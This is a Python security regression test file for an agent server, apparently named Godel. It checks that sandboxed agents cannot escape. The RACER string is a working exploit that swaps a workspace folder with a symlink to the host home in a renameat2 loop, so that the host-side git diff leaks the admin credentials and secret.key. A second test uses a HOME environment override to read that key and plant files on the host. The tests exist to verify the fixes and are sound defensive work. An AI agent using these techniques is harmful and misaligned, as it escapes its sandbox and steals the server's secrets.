"""Second review: Godel's own reads of a live agent's workspace, made on the host while the agent still runs.

Godel reads a workspace with host privileges (``git add -A`` over it for a diff or a snapshot). Git checks what it
finds with ``lstat`` and then opens it by path, and walks folders by path: an agent that swaps a folder of its
workspace with a symlink to a host folder at the right moment (``renameat2(RENAME_EXCHANGE)``, atomic, in a loop)
gets git, running as the server's user outside the sandbox, to hash a host file under the folder's name. The diff
endpoint, which the agent's own run credential may call from inside the sandbox, then hands it the file.
"""

from __future__ import annotations

import asyncio
import json
import time
from pathlib import Path
from typing import Any

import pytest

from godel.core.states import AgentState
from godel.errors import RuntimeFailure
from godel.runtimes.container.runtime import ContainerRuntime
from godel.runtimes.gvisor.runtime import GVisorRuntime
from godel.scheduler.requests import SpawnRequest
from tests.api.conftest import kill_runs
from tests.conftest import make_repo
from tests.gateway.conftest import stack  # noqa: F401 (the fixture)
from tests.sandbox.conftest import require_sandbox
from tests.sandbox.test_selection import _path_without

# Run inside the sandbox: a folder and a symlink to $GODEL_HOME (the workspace is bound at its host path, so its
# grandparent is the home) swap places in a child process while the agent asks for its own diff, which Godel
# computes on the host.
RACER = r"""
import ctypes, json, os, random, sys, time, urllib.request
from pathlib import Path
ws = Path.cwd()
home = ws.parent.parent
libc = ctypes.CDLL(None, use_errno=True)
# Git adds in path order: b0/ (decoys named like the home's files), then m/ (slow to hash), then z0 (a symlink to
# the home). The two swap places now and then; git reads the home's files whenever b0 is the symlink when git
# reaches it, and z0 is one again when git reaches that.
for slow in ("a", "m"):
    (ws / slow).mkdir()
    (ws / slow / "bulk").write_bytes(os.urandom(6 << 20))
(ws / "b0").mkdir()
for name in ("credentials", "secret.key"):
    (ws / "b0" / name).write_text("decoy\n")
os.symlink(str(home), ws / "z0")
pair = (os.fsencode(ws / "b0"), os.fsencode(ws / "z0"))
if libc.renameat2(-100, pair[0], -100, pair[1], 2) != 0:
    print("NO-EXCHANGE", ctypes.get_errno(), flush=True)
    sys.exit(0)
racer = os.fork()
if racer == 0:
    while True:
        libc.renameat2(-100, pair[0], -100, pair[1], 2)
        time.sleep(random.uniform(0.002, 0.08))
url = f"{os.environ['GODEL_URL']}/api/v1/agents/{os.environ['GODEL_AGENT_ID']}/diff"
headers = {"Authorization": "Bearer " + os.environ["GODEL_API_KEY"]}
deadline = time.monotonic() + float(os.environ["TRIES_FOR"])
tries = answered = 0
while time.monotonic() < deadline:
    tries += 1
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=30) as reply:
            diff = json.loads(reply.read())["data"]["diff"]
    except Exception:
        continue  # git failed on a path that moved meanwhile: try again
    answered += 1
    added = [line[1:] for line in diff.splitlines() if line.startswith("+") and not line.startswith("+++")]
    found = [line for line in added if line not in ("decoy", "") and not line.startswith("/")]
    if found:
        print("LEAKED", tries, answered, json.dumps(found), flush=True)
        break
else:
    print("NOTHING", tries, answered, flush=True)
os.kill(racer, 9)
"""


async def _ended(s: Any, agent_id: str, timeout: float) -> Any:
    deadline = time.monotonic() + timeout
    ended = (AgentState.COMPLETED, AgentState.FAILED, AgentState.KILLED)
    while (agent := await s.plane.get(agent_id)).state not in ended:
        assert time.monotonic() < deadline, f"agent {agent_id} did not end (state {agent.state})"
        await asyncio.sleep(0.1)  # polling the store for the supervisor's verdict
    return agent


async def race(make: Any, fast_tmp: Path, racer: str, *, tries_for: int) -> tuple[Any, str, dict[str, str]]:
    """Run ``racer`` as a sandboxed command agent on a real server (``make``: the ``stack`` fixture) for
    ``tries_for`` seconds: (the agent once ended, its stdout, the server's secrets the racer must not print)."""
    repo = make_repo(fast_tmp / "repo", {"racer.py": racer})
    async with make([{"text": "unused"}], runtime="sandbox", watch_interval=0.02) as s:
        home = s.plane.settings.home
        secrets = {"secret.key": (home / "secret.key").read_text().strip()}
        if (home / "credentials").is_file():
            admin = json.loads((home / "credentials").read_text())
            secrets.update(password=admin["password"], apiKey=admin["apiKey"])
        try:
            agent = await s.plane.spawn(
                SpawnRequest(task="race", repo=str(repo), command="/usr/bin/python3 racer.py", timeout=120,
                             env={"TRIES_FOR": str(tries_for)})
            )  # fmt: skip
            done = await _ended(s, agent.id, 150)
        finally:
            await kill_runs(s.plane)
        return done, (home / "logs" / agent.id / "stdout.log").read_text(), secrets


async def test_a_sandboxed_agent_reads_the_servers_secrets_through_its_own_diff(stack: Any, fast_tmp: Path) -> None:  # noqa: F811
    """The move: swap workspace folders with symlinks to $GODEL_HOME in a loop and call GET /agents/<self>/diff.
    Godel's host-side ``git add -A`` then follows a swapped symlink and the diff carries ``credentials`` (the admin's
    password and API key) or ``secret.key`` (the key of every sealed secret)."""
    require_sandbox()
    done, out, secrets = await race(stack, fast_tmp, RACER, tries_for=8)
    assert done.runtime_name == "sandbox" and "NO-EXCHANGE" not in out, (done.last_error, out)
    if out.startswith("NOTHING"):  # the move was made: diffs asked for while the folders swapped (unfixed: one or
        assert int(out.split()[1]) >= 5, out  # two are enough; fixed, a swapped symlink names nothing: git fails)
    leaked = [name for name, text in secrets.items() if text in out]
    assert not leaked, (  # without the fix: leaked within 1-10 diffs, seconds
        f"SANDBOX READ ESCAPE: through its own diff, the sandboxed agent read the server's {leaked} "
        f"(host-side git followed a symlink swapped in mid-read): {out[-600:]}"
    )


async def test_a_spawn_that_names_home_does_not_get_that_folder_bound_writable(stack: Any, fast_tmp: Path) -> None:  # noqa: F811
    """The move of any caller allowed to spawn (a low-privilege user, or a sandboxed agent's sub-agent): set
    ``env.HOME`` to a host folder. The sandbox bound whatever ``HOME`` named as the agent's writable home, so
    ``HOME=$GODEL_HOME`` showed the server's ``secret.key`` and let the agent plant files there (``HOME=/``: the
    whole host, writable)."""
    require_sandbox()
    repo = make_repo(fast_tmp / "repo")
    async with stack([{"text": "unused"}], runtime="sandbox", watch_interval=0.02) as s:
        home = s.plane.settings.home
        secret = (home / "secret.key").read_text().strip()
        try:
            agent = await s.plane.spawn(
                SpawnRequest(task="t", repo=str(repo), timeout=60, env={"HOME": str(home)},
                             command='cat "$HOME/secret.key"; echo planted > "$HOME/planted"; true')
            )  # fmt: skip
            done = await _ended(s, agent.id, 90)
        finally:
            await kill_runs(s.plane)
        out = (home / "logs" / agent.id / "stdout.log").read_text()
        planted = (home / "planted").exists()
    assert done.runtime_name == "sandbox", done.last_error
    assert secret not in out and not planted, (
        f"SANDBOX ESCAPE: env HOME={home} made the server's home the agent's writable home: it printed "
        f"secret.key ({secret in out}) and planted a file there ({planted})"
    )


def test_runtimes_that_confine_refuse_to_run_where_the_jail_cannot(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """gVisor and podman need no bubblewrap of their own, but their agents' workspaces are read by Godel's git through
    the jail: without bubblewrap that read would follow a swapped symlink to the host, so they fail closed."""
    monkeypatch.setenv("PATH", _path_without(("bwrap",), tmp_path / "bin"))
    with pytest.raises(RuntimeFailure, match="bubblewrap is not installed"):
        GVisorRuntime(tmp_path / "w", tmp_path / "l")
    with pytest.raises(RuntimeFailure, match="needs bubblewrap too"):
        ContainerRuntime(tmp_path / "w", tmp_path / "l")
